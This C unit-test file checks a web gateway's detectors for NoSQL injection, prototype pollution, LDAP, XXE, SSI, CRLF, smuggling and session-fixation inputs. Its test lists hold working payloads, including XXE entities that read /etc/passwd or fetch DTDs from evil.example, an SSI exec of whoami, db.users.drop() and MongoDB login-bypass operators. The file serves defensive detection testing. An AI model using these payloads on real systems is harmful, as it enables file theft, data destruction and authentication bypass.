// SPDX-License-Identifier: GPL-2.0-only
/*
 * The NoSQL / prototype pollution detector and the misc detector (LDAP, XML, SSI, CRLF,
 * smuggling, session fixation, generic) on normalised text: true positives, chat-like true
 * negatives, and for every firing string that one of the detector's anchors is in it (the
 * soundness the kernel prefilter relies on).
 */
#include <ctype.h>
#include <stdio.h>
#include <string.h>
#include "wsg_test.h"
#include "detect.h"
#include "wsg_detect_check.h"

WSG_TEST_MAIN


#define NOSQL(s) wsg_run(wsg_detect_nosqli, (s), 1)
#define NOSQL_RAW(s) wsg_run(wsg_detect_nosqli, (s), 0)
#define MISC(s) wsg_run(wsg_detect_misc, (s), 1)

static void wsg_expect(const char *(*run)(const char *), const char *const *hit,
		       const char *const *pass)
{
	for (int i = 0; hit && hit[i]; i++)
		CHECK(run(hit[i]), "missed %s", hit[i]);
	for (int i = 0; pass && pass[i]; i++) {
		const char *r = run(pass[i]);

		CHECK(!r, "false positive %s on %s", r ? r : "", pass[i]);
	}
}

static const char *wsg_nosql1(const char *s)
{
	return NOSQL(s);
}

static const char *wsg_misc1(const char *s)
{
	return MISC(s);
}

WSG_TEST(nosql_operators)
{
	static const char *const hit[] = {
		"$ne", "$gt", "$regex", "$where",
		"{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}",
		"{\"username\":{\"$in\":[\"admin\", \"root\"]},\"password\":{\"$gt\":\"\"}}",
		"login[$regex]=a.*&pass[$ne]=lol",
		"login[$nin][]=admin&login[$nin][]=test&pass[$ne]=toto",
		"[$ne]=1", "{$gt: ''}", "', $or: [ {}, { 'a':'a",
		"' } ], $comment:'successful mongodb injection'",
		"$where: '1 == 1'", "{\"$where\": \"sleep(100)\"}",
		"{'$expr': {'$function': {'body': 'x'}}}",
		NULL,
	};
	static const char *const pass[] = {
		"for i in *.rar ; do rar x \"$i\" ; done",
		"sudo chown -r \"$user:$user\" ~/",
		"echo \"$text\" | grep foo",
		"print \"$type\\n\";",
		"it costs $gt 5 now",
		"in mongo you'd write {age: {$gt: 30}} to filter",
		"use $regex with $options: 'i' for case insensitive",
		"the $regex operator matches strings",
		"run ($oracle_home/bin/isqlpluscti start)",
		"subscription onchat($text: string!) { chat(text: $text) { id } }",
		"query q($id: id!, $type: kind, $size: int) { x }",
		"x = x || {}; is an old idiom",
		"sudo apt-get update && apt-cache policy nodejs",
		NULL,
	};

	wsg_expect(wsg_nosql1, hit, pass);
	/* unquoted text has no quote before a leading "$ne": its gate is absent */
	CHECK(!NOSQL_RAW("$ne"), "\"$ne\" in plain text fired without its gate");
}

WSG_TEST(nosql_javascript)
{
	static const char *const hit[] = {
		"\";return(true);var xyz='a",
		"0;return true",
		"';sleep(5000);+'",
		"';it=new date();do{pt=new date();}while(pt-it<5000);",
		"' && this.passwordzz.match(/.*/)//+",
		"|| 1==1",
		"' || 'a'=='a",
		"}, { password : /.*/ }",
		"db.injection.insert({success:1});",
		"';db.users.drop();'",
		"{ $ne: 1 }",
		"{\"username\": {\"$gt\": undefined}}",
		"{\"action\": \"log me in\", \"user\": {\"$ne\": 1}}",
		"{age: {$gt: 30}}",
		NULL,
	};
	static const char *const pass[] = {
		"if (s == 'a' && this.enabled) { go(); }",
		"function f() { x(); return true; }",
		"make && sleep(5) is not shell syntax",
		"a || b == c",
		"it's fine; return it tomorrow && thanks",
		"try the regex /.*/ there",
		"then run db.users.find() in the mongo shell",
		NULL,
	};

	wsg_expect(wsg_nosql1, hit, pass);
}

WSG_TEST(prototype_pollution)
{
	static const char *const hit[] = {
		"__proto__", "__proto__.foo=bar", "__proto__[admin]=1", "mydog.__proto__;",
		"{\"__proto__\":{\"admin\":true}}", "{\"__proto__.name\":\"test\"}",
		"https://victim.com/#a=b&__proto__[admin]=1",
		"constructor.prototype.test", "object.constructor.prototype.evil=\"x\"",
		"constructor[prototype][admin]=1",
		"{\"constructor\": {\"prototype\": {\"isadmin\": true}}}",
		NULL,
	};
	static const char *const pass[] = {
		"never touch __proto__, it is deprecated",
		"the prototype of this car looks great",
		"array.prototype.map is handy",
		"the constructor prototype chain is confusing",
		NULL,
	};

	wsg_expect(wsg_nosql1, hit, pass);
}

WSG_TEST(ldap_injection)
{
	static const char *const hit[] = {
		"bar)(&)", "printer)(uid=*)", "eb9adbd87d)!(sn=*", "*)!(sn=*",
		"*)(uid=*))(|(uid=*", "aaa*aaa)(cn>=bob)", "value)(gidnumber<=100", "admin)(|",
		"test))(&(objectclass=*", "val)|(uid=*", "admin)(|(password=*",
		"session=value)(uid=*", "*()|&'", "*(|(mail=*))", "admin*)((|userpassword=*)",
		"*(|(objectclass=*))", ")(cn=))", "*))", "*)(&", ")", "|", "&",
		NULL,
	};
	static const char *const pass[] = {
		"(&(objectcategory=computer)  (useraccountcontrol:1.2.840.113556.1.4.803:=8192))",
		"(&(objectclass=user)(cn=foo))", "(a b)*c", "hello!world", "user@example.com",
		"i think so :)(not sure)", "f(x)(y) = 3", "(a)(b)(c)", "2*(3+4)",
		"(select count(*))", "count(*)) from t", "!", "*", "(", "((", ":)", "a & b",
		NULL,
	};

	wsg_expect(wsg_misc1, hit, pass);
	CHECK(!wsg_run(wsg_detect_misc, "|", 0), "unquoted '|' is not gated");
}

WSG_TEST(xml_attacks)
{
	static const char *const hit[] = {
		"<!doctype foo [<!element foo any ><!entity xxe system \"file:///etc/passwd\" >]>",
		"<!doctype xxe [<!entity foo \"aaaaaa\">]><root>&foo;</root>",
		"<!entity % int \"<!entity &#37; trick system 'http://127.0.0.1:80/?%file;'>\">",
		"<!doctype foo system \"http://evil.example/x.dtd\"><foo/>",
		"<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>",
		"<?xml version=\"1.0\"?><methodcall><methodname>x</methodname></methodcall>",
		"<![cdata[<script>alert(1)</script>]]>",
		"<xml src=\"xsstest.xml\" id=i></xml>", "<xml id=\"xss\"><i></i></xml>",
		"<xsl:stylesheet version=\"1.0\"></xsl:stylesheet>",
		"<html xmlns:xss><?import namespace=\"xss\" implementation=\"http://x/x.htc\">",
		"%foo;", "%dtd;%trick;", "count(/child::node())",
		"<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>",
		"<foo xmlns:xi=\"http://www.w3.org/2001/xinclude\"></foo>",
		"<!doctype foo public \"-//x//en\" \"http://evil.example/x.dtd\">",
		NULL,
	};
	static const char *const pass[] = {
		"<!doctype html>", "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?>",
		"100%;", "it went up 5%; crazy", "use %s; in printf", "std::vector<int> v;",
		"wrap it in an <xml> tag", "add <?xml version=\"1.0\"?> at the top of the file",
		"<!doctype html public \"-//w3c//dtd xhtml 1.0 strict//en\" "
		"\"http://www.w3.org/tr/xhtml1/dtd/xhtml1-strict.dtd\">", "the xml parser is slow", "child::node is a thing?",
		NULL,
	};

	wsg_expect(wsg_misc1, hit, pass);
}

WSG_TEST(ssi_esi)
{
	static const char *const hit[] = {
		"<!--#exec cmd=\"whoami\" -->", "<!--#include virtual=\"/index.html\" -->",
		"<!--#echo var=\"document_root\" -->", "<!--#printenv -->",
		"<pre><!--#exec cmd=\"ls\" --></pre>", "<esi:include src=http://x.example/>",
		"<esi:debug/>", "<!--esi $add_header('location','http://x.example') -->",
		NULL,
	};
	static const char *const pass[] = {
		"<!-- a comment -->", "<!--#123 -->", "use esi: it is fast", NULL,
	};

	wsg_expect(wsg_misc1, hit, pass);
}

WSG_TEST(crlf_and_smuggling)
{
	static const char *const hit[] = {
		"/#\r\nset-cookie:crlf=injection", "/\nset-cookie:crlf=injection",
		"foobar\r\ncontent-length: 02343432423<html>ftw</html>",
		"x\r\n transfer-encoding : chunked",
		"\npost / http/1.1", "aaa\rhead http://example.com/ http/1.1",
		"foobar<meta http-equiv=\"refresh\" content=\"0; url=http://x.example/\">",
		"x\r\nhttp/1.1 200 ok",
		NULL,
	};
	static const char *const pass[] = {
		"aaa\r\nget /foo\r", "aaa\r\nget foo bar", "soundtrack gympl\r\nanything",
		"get it\n", "set-cookie: is the header you want", "the content-type: header",
		"get / http/1.1 is the request line", "curl says http/1.1 200 ok",
		"send\ndestination:/app/chat\ncontent-type:text/plain\ncontent-length:5\n\nhello",
		"http/1.1 200 ok\r\ncontent-type: text/plain\r\nset-cookie: a=b\r\n\r\nhi",
		"get / http/1.1\r\nhost: x\r\n\r\nget /b http/1.1\r\n",
		"content-type: text/html\r\ncontent-length: 5",
		NULL,
	};

	wsg_expect(wsg_misc1, hit, pass);
}

WSG_TEST(session_fixation)
{
	static const char *const hit[] = {
		"jsessionid", "phpsessid=abc123", "/app;jsessionid=0123abcd",
		"__secure-next-auth.session-token", "aspsessionidqsbqdqtc=x",
		"document.cookie='phpsessid=abc'",
		"<script>document.cookie=\"sessionid=1234;domain=.example.dom\";</script>",
		"<meta http-equiv=\"set-cookie\" content=\"sessionid=1234\">",
		NULL,
	};
	static const char *const pass[] = {
		"my phpsessid cookie keeps expiring", "what is a jsessionid anyway?",
		"session_token", "jsessionid==null", "if (document.cookie==x) go();",
		NULL,
	};

	wsg_expect(wsg_misc1, hit, pass);
}

WSG_TEST(generic_injections)
{
	static const char *const hit[] = {
		"@{[system 'whoami']}", "@{   [   uc   'hello'   ]   }", "@{[`whoami`]}",
		"data:text/plain;base64,ssbsb3zlifbiuao=", "data:text/plain",
		"data:image/svg+xml,<svg/>", "data:,hello", "data:;base64,aGk=",
		"created__hour", "ts__iso_year",
		"password__isnull", "balance__gte", "roles__contained_by",
		"user__profile__nickname__istartswith", "data__has_key", "tags__has_any_keys",
		NULL,
	};
	static const char *const pass[] = {
		"mail me @{name}", "data: text is here", "metadata:text/plain", "username",
		"use field__startswith for filtering",
		"{\"note\":\"please filter by name__startswith\"}",
		"{\"name__exact\":\"a\",\"city__in\":\"b\"}", "the__one: remove that line",
		"__init__", "foo__bar", "created_by", "api_key", "has_keys",
		NULL,
	};

	wsg_expect(wsg_misc1, hit, pass);
}
